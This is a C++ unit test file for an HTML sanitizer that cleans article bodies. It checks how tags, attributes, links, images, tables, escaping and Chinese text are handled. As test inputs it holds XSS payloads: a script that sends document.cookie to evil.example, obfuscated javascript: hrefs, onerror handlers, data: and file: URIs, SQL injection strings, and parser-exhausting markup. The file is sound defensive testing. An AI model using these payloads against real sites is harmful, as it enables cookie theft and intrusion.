// The allow-list cleaner for article bodies: what is kept, dropped and
// unwrapped, how links and images are judged, escaping, Chinese text kept
// byte for byte, deep and hostile input, and the plain text and links of a
// fragment.
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "render/rich_text.hpp"

using yiwang::render::clean_html;
using yiwang::render::CleanedHtml;
using yiwang::render::html_links;
using yiwang::render::html_to_text;

namespace {

using Strings = std::vector<std::string>;

std::size_t count(std::string_view text, std::string_view what) {
  std::size_t n = 0;
  for (auto at = text.find(what); at != std::string_view::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

// Cleaning the output again changes nothing and drops nothing.
void expect_fixed_point(const CleanedHtml& cleaned) {
  const CleanedHtml again = clean_html(cleaned.html);
  EXPECT_EQ(again.html, cleaned.html);
  EXPECT_EQ(again.removed, Strings{});
}

}  // namespace

TEST(RichText, EmptyInputGivesEmptyOutput) {
  const CleanedHtml cleaned = clean_html("");
  EXPECT_EQ(cleaned.html, "");
  EXPECT_EQ(cleaned.removed, Strings{});
  EXPECT_EQ(html_to_text(""), "");
  EXPECT_EQ(html_links(""), Strings{});
}

TEST(RichText, KeepsAllowedMarkupAsItIs) {
  const std::string html =
      "<h2>一、总体要求</h2><p>坚持<strong>以人民为中心</strong>，<em>依法</em>公开。<br>"
      "第二行<sub>1</sub><sup>2</sup></p><blockquote><p>引文</p></blockquote><hr>"
      "<dl><dt>术语</dt><dd>解释</dd></dl><figure><img src=\"/files/1.png\" alt=\"图\">"
      "<figcaption>图一</figcaption></figure><div><span lang=\"en\">English</span></div>";
  const CleanedHtml cleaned = clean_html(html);
  EXPECT_EQ(cleaned.html, html);
  EXPECT_EQ(cleaned.removed, Strings{});
}

TEST(RichText, RemovesScriptsWithTheirContent) {
  const CleanedHtml cleaned = clean_html(
      "<p>通知<script>document.location='https://evil.example/?'+document.cookie</script>正文</p>"
      "<script src=\"//evil.example/x.js\"></script><SCRIPT>alert(1)</SCRIPT>");
  EXPECT_EQ(cleaned.html, "<p>通知正文</p>");
  EXPECT_EQ(cleaned.removed, Strings{"script"});
}

TEST(RichText, RemovesEventHandlersStylesAndOtherAttributes) {
  const CleanedHtml cleaned = clean_html(
      "<p onclick=\"steal()\" style=\"color:red\" class=\"MsoNormal\">a "
      "<span onmouseover=x id=s1 data-track=1 lang=zh-CN>b</span></p>"
      "<style>p { background: url(javascript:alert(1)) }</style>");
  EXPECT_EQ(cleaned.html, "<p>a <span lang=\"zh-CN\">b</span></p>");
  EXPECT_EQ(cleaned.removed,
            (Strings{"class", "data-track", "id", "onclick", "onmouseover", "style"}));
}

TEST(RichText, DropsImagesFromOtherSitesWithTheirHandlers) {
  const CleanedHtml onerror = clean_html("<img src=x onerror=alert(1)>");
  EXPECT_EQ(onerror.html, "");
  EXPECT_EQ(onerror.removed, Strings{"img:external"});

  for (const char* src : {"https://evil.example/a.png", "//evil.example/a.png",
                          "/\\evil.example/a.png", "/\t/evil.example/a.png",
                          "data:image/png;base64,iVBORw0KGgo=", "javascript:alert(1)", ""}) {
    const CleanedHtml cleaned = clean_html(std::string("<p>a<img src=\"") + src + "\">b</p>");
    EXPECT_EQ(cleaned.html, "<p>ab</p>") << src;
    EXPECT_EQ(cleaned.removed, Strings{"img:external"}) << src;
  }
}

TEST(RichText, KeepsSameSiteImagesAndChecksTheirAttributes) {
  const CleanedHtml cleaned = clean_html(
      "<img src=\"/files/a.png\" onerror=\"alert(1)\" alt=\"示意图\" width=\"640\" "
      "height=\"480px\" title=\"t\"><img src=\"/files/b.png\">");
  EXPECT_EQ(cleaned.html,
            "<img src=\"/files/a.png\" alt=\"示意图\" width=\"640\"><img src=\"/files/b.png\" "
            "alt=\"\">");
  EXPECT_EQ(cleaned.removed, (Strings{"height", "onerror", "title"}));
  expect_fixed_point(cleaned);
}

TEST(RichText, DropsHrefsWithDangerousSchemes) {
  const struct {
    const char* href;
    const char* removed;
  } cases[] = {
      {"javascript:alert(1)", "href:javascript"},
      {"JaVaScRiPt:alert(1)", "href:javascript"},
      {"  javascript:alert(1)", "href:javascript"},
      {"\njavascript:alert(1)", "href:javascript"},
      {"java&#x09;script:alert(1)", "href:javascript"},
      {"java\tscript:alert(1)", "href:javascript"},
      {"&#x6A;avascript&colon;alert(1)", "href:javascript"},
      {"&#1;javascript:alert(1)", "href:javascript"},
      {"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "href:data"},
      {"vbscript:msgbox(1)", "href:vbscript"},
      {"file:///etc/passwd", "href:file"},
  };
  for (const auto& c : cases) {
    const CleanedHtml cleaned =
        clean_html(std::string("<a href=\"") + c.href + "\" title=\"说明\">链接</a>");
    EXPECT_EQ(cleaned.html, "<a title=\"说明\">链接</a>") << c.href;
    EXPECT_EQ(cleaned.removed, Strings{c.removed}) << c.href;
  }
}

TEST(RichText, KeepsSafeHrefsAndMarksExternalOnes) {
  const struct {
    const char* href;
    const char* html;
  } cases[] = {
      {"/zwgk/2024/0001.html", "<a href=\"/zwgk/2024/0001.html\">x</a>"},
      {"#section-2", "<a href=\"#section-2\">x</a>"},
      {"notice.html?id=7&amp;p=2", "<a href=\"notice.html?id=7&amp;p=2\">x</a>"},
      {"../files/a.pdf", "<a href=\"../files/a.pdf\">x</a>"},
      {"mailto:zwgk@example.gov.cn", "<a href=\"mailto:zwgk@example.gov.cn\">x</a>"},
      {"tel:12345", "<a href=\"tel:12345\">x</a>"},
      {"https://www.gov.cn/", "<a href=\"https://www.gov.cn/\" rel=\"noopener noreferrer\">x</a>"},
      {"HTTP://example.com/a",
       "<a href=\"HTTP://example.com/a\" rel=\"noopener noreferrer\">x</a>"},
      {"//cdn.example.com/a", "<a href=\"//cdn.example.com/a\" rel=\"noopener noreferrer\">x</a>"},
  };
  for (const auto& c : cases) {
    const CleanedHtml cleaned = clean_html(std::string("<a href=\"") + c.href + "\">x</a>");
    EXPECT_EQ(cleaned.html, c.html) << c.href;
    EXPECT_EQ(cleaned.removed, Strings{}) << c.href;
    expect_fixed_point(cleaned);
  }
  // The editor's rel and target give way to ours.
  const CleanedHtml target =
      clean_html("<a href=\"https://a.example/\" rel=\"opener\" target=\"_blank\">x</a>");
  EXPECT_EQ(target.html, "<a href=\"https://a.example/\" rel=\"noopener noreferrer\">x</a>");
  EXPECT_EQ(target.removed, Strings{"target"});
}

TEST(RichText, DropsEmbedsMediaAndForms) {
  const CleanedHtml cleaned = clean_html(
      "<p>前</p><iframe src=\"https://evil.example/\">frame text</iframe>"
      "<object data=\"x.swf\"><param name=a value=b>fallback</object><embed src=\"x.swf\">"
      "<video src=\"/v.mp4\"><track src=\"/t.vtt\">no video</video><audio src=\"/a.mp3\"></audio>"
      "<form action=\"https://evil.example/\"><input name=q><button>Go</button></form>"
      "<svg><a href=\"javascript:alert(1)\"><text>svg</text></a></svg>"
      "<math><mi>x</mi></math><noscript><p>ns</p></noscript><p>后</p>");
  EXPECT_EQ(cleaned.html, "<p>前</p><p>后</p>");
  EXPECT_EQ(cleaned.removed, (Strings{"audio", "embed", "form", "iframe", "math", "noscript",
                                      "object", "svg", "video"}));
}

TEST(RichText, KeepsTablesWithCheckedSpans) {
  const CleanedHtml cleaned = clean_html(
      "<table border=1 style=\"width:100%\"><caption>统计表</caption>"
      "<thead><tr><th scope=COL colspan=2>项目</th><th scope=left>x</th></tr></thead>"
      "<tr><td rowspan=\"3\" colspan=\"0\">甲</td><td colspan=101>乙</td><td "
      "colspan=2x>丙</td></tr>"
      "<tfoot><tr><td colspan=\"100\">合计</td></tr></tfoot></table>");
  EXPECT_EQ(cleaned.html,
            "<table><caption>统计表</caption><thead><tr><th scope=\"col\" colspan=\"2\">项目</th>"
            "<th>x</th></tr></thead><tbody><tr><td rowspan=\"3\">甲</td><td>乙</td><td>丙</td>"
            "</tr></tbody><tfoot><tr><td colspan=\"100\">合计</td></tr></tfoot></table>");
  EXPECT_EQ(cleaned.removed, (Strings{"border", "colspan", "scope", "style"}));
  expect_fixed_point(cleaned);
}

TEST(RichText, ChecksListAndLanguageAttributes) {
  const CleanedHtml cleaned = clean_html(
      "<ol start=\"3\" reversed><li lang=\"zh-Hans-CN\" dir=\"rtl\">三</li></ol>"
      "<ol start=\"-1\"><li lang=\"x&quot;onclick\">a</li></ol>");
  EXPECT_EQ(cleaned.html,
            "<ol start=\"3\"><li lang=\"zh-Hans-CN\">三</li></ol><ol><li>a</li></ol>");
  EXPECT_EQ(cleaned.removed, (Strings{"dir", "lang", "reversed", "start"}));
}

TEST(RichText, UnwrapsUnknownElements) {
  const CleanedHtml cleaned = clean_html(
      "<center><font face=\"宋体\" color=red>通知</font></center>"
      "<p class=MsoNormal>正文<o:p></o:p></p><my-widget data-id=1>自定义</my-widget>"
      "<section><article>节</article></section>");
  EXPECT_EQ(cleaned.html, "通知<p>正文</p>自定义节");
  EXPECT_EQ(cleaned.removed,
            (Strings{"article", "center", "class", "font", "my-widget", "o:p", "section"}));
}

TEST(RichText, TurnsH1IntoH2) {
  const CleanedHtml cleaned = clean_html("<h1 id=top>标题</h1><h3>小节</h3>");
  EXPECT_EQ(cleaned.html, "<h2>标题</h2><h3>小节</h3>");
  EXPECT_EQ(cleaned.removed, Strings{"id"});
}

TEST(RichText, EscapesTextAndAttributes) {
  const CleanedHtml cleaned = clean_html(
      "<p>a &lt;b&gt; &amp; &quot;c&quot; 'd' &copy; 1 < 2 > 0</p>"
      "<a href=\"/q?a=1&amp;b='2'\" title='say \"hi\" &lt;now&gt;'>x</a>");
  EXPECT_EQ(cleaned.html,
            "<p>a &lt;b&gt; &amp; &quot;c&quot; &#39;d&#39; © 1 &lt; 2 &gt; 0</p>"
            "<a href=\"/q?a=1&amp;b=&#39;2&#39;\" title=\"say &quot;hi&quot; &lt;now&gt;\">x</a>");
  EXPECT_EQ(cleaned.removed, Strings{});
  expect_fixed_point(cleaned);
}

TEST(RichText, KeepsChineseAndFullWidthTextByteForByte) {
  const std::string html =
      "<p>　　关于做好２０２４年度政务公开工作的通知（第１号）：ＡＢＣ！＂＜＞＆＇"
      "——“引号”、《书名号》……￥１００。</p>";
  const CleanedHtml cleaned = clean_html(html);
  EXPECT_EQ(cleaned.html, html);
  EXPECT_EQ(cleaned.removed, Strings{});
}

TEST(RichText, KeepsSqlAsText) {
  const CleanedHtml cleaned = clean_html("<p>'; DROP TABLE articles;--</p><p>1' OR '1'='1</p>");
  EXPECT_EQ(cleaned.html,
            "<p>&#39;; DROP TABLE articles;--</p><p>1&#39; OR &#39;1&#39;=&#39;1</p>");
  EXPECT_EQ(html_to_text(cleaned.html), "'; DROP TABLE articles;--\n1' OR '1'='1");
}

TEST(RichText, DropsCommentsAndDoctype) {
  const CleanedHtml cleaned =
      clean_html("<!DOCTYPE html><!--[if gte mso 9]><xml>x</xml><![endif]--><p>a<!-- b -->c</p>");
  EXPECT_EQ(cleaned.html, "<p>ac</p>");
  EXPECT_EQ(cleaned.removed, Strings{});
}

TEST(RichText, PreKeepsItsLeadingNewline) {
  // The parser drops the newline right after <pre>; the second one is text.
  const CleanedHtml cleaned = clean_html("<pre>\n\nint main() {\n  return 0;\n}</pre>");
  EXPECT_EQ(cleaned.html, "<pre>\n\nint main() {\n  return 0;\n}</pre>");
  expect_fixed_point(cleaned);
}

TEST(RichText, OutputIsAFixedPointWhenUnwrappingMovesMarkup) {
  // Without the <section>, the second <li> would close the first one.
  const CleanedHtml list = clean_html("<ul><li>a<section><li>b</section></li></ul>");
  EXPECT_EQ(list.html, "<ul><li>a</li><li>b</li></ul>");
  EXPECT_EQ(list.removed, Strings{"section"});
  expect_fixed_point(list);
  // <marquee> keeps a <p> inside a <p>, which HTML cannot express.
  const CleanedHtml marquee = clean_html("<p>a<marquee><p>b</marquee>c");
  EXPECT_EQ(marquee.html, "<p>a</p><p>b</p>c<p></p>");
  EXPECT_EQ(marquee.removed, Strings{"marquee"});
  expect_fixed_point(marquee);
}

TEST(RichText, SurvivesInvalidUtf8AndNulBytes) {
  using namespace std::string_view_literals;
  const std::string_view input = "\xff\xfe<p>\xc3(\xe4\xb8</p>\0<b>x\x80</b>"sv;
  ASSERT_EQ(input.size(), 23u);
  const CleanedHtml cleaned = clean_html(input);
  EXPECT_EQ(cleaned.html,
            "\xEF\xBF\xBD\xEF\xBF\xBD<p>\xEF\xBF\xBD(\xEF\xBF\xBD</p><b>x\xEF\xBF\xBD</b>");
  expect_fixed_point(cleaned);
}

TEST(RichText, WritesControlCharactersAsTheNextParseReadsThem) {
  // References to CR and control characters come through gumbo as they are.
  const CleanedHtml cleaned =
      clean_html("<a href=\"/a\" title=\"1&#xD;2\">x&#xD;&#xA;y&#x11;z&#x81;</a>");
  EXPECT_EQ(cleaned.html, "<a href=\"/a\" title=\"1\n2\">x\ny\xEF\xBF\xBDz\xEF\xBF\xBD</a>");
  expect_fixed_point(cleaned);
  EXPECT_EQ(clean_html("<a href=\"&#x1;https://a.example/\">x</a>").html,
            "<a href=\"\xEF\xBF\xBDhttps://a.example/\" rel=\"noopener noreferrer\">x</a>");
}

TEST(RichText, FlattensDeepNestingWithoutCrashing) {
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<div>";
  deep += "深";
  for (int i = 0; i < 100000; ++i) deep += "</div>";
  const CleanedHtml cleaned = clean_html(deep);
  EXPECT_EQ(count(cleaned.html, "<div>"), 256u);
  EXPECT_EQ(count(cleaned.html, "</div>"), 256u);
  EXPECT_NE(cleaned.html.find("<div>深</div>"), std::string::npos);
  EXPECT_EQ(cleaned.removed, Strings{"html:too_deep"});
  EXPECT_EQ(html_to_text(deep), "深");
  expect_fixed_point(cleaned);

  std::string unclosed;
  for (int i = 0; i < 100000; ++i) unclosed += "<blockquote><b>";
  EXPECT_LE(count(clean_html(unclosed).html, "<blockquote>"), 256u);
}

TEST(RichText, RefusesInputThatWouldExhaustTheParser) {
  // Each <b> is reopened inside every later <div>: quadratic in elements.
  std::string hostile;
  for (int i = 0; i < 10000; ++i) hostile += "<div><b id=" + std::to_string(i) + "></div>";
  const CleanedHtml cleaned = clean_html(hostile);
  EXPECT_EQ(cleaned.html, "");
  EXPECT_EQ(cleaned.removed, Strings{"html:too_complex"});
  EXPECT_EQ(html_to_text(hostile), "");
  EXPECT_EQ(html_links(hostile), Strings{});
}

TEST(RichText, TextOfParagraphsListsAndTables) {
  EXPECT_EQ(html_to_text("<h2>标题</h2><p>第一段   文字\n续行</p><ul><li>第一条</li>"
                         "<li>第二条&nbsp;&nbsp;内容</li></ul><p>甲<br>乙</p>"
                         "<script>var x = 1;</script><style>p{}</style>"
                         "<table><tr><td>1</td><td>2</td></tr><tr><td>3</td><td>4</td></tr></table>"
                         "<p>　　全角缩进</p><p> </p><p>a &lt; b &amp;&amp; c</p>"),
            "标题\n第一段 文字 续行\n第一条\n第二条 内容\n甲\n乙\n1 2\n3 4\n全角缩进\na < b && c");
  EXPECT_EQ(html_to_text("<pre>line 1\n  line 2</pre>tail"), "line 1\nline 2\ntail");
  EXPECT_EQ(html_to_text("  plain <b>bold</b><i>italic</i>  "), "plain bolditalic");
}

TEST(RichText, LinksInDocumentOrder) {
  EXPECT_EQ(
      html_links("<p><a href=\" /zwgk/1.html \">一</a><img src=\"/files/a.png\">"
                 "<a name=\"top\">无</a><a href=\"\">空</a>"
                 "<a href=\"https://www.gov.cn/?a=1&amp;b=2\">二</a></p>"
                 "<ul><li><a href=\"/zwgk/1.html\">重复</a></li></ul>"
                 "<script>document.write('<a href=/s>')</script>"),
      (Strings{"/zwgk/1.html", "/files/a.png", "https://www.gov.cn/?a=1&b=2", "/zwgk/1.html"}));
}
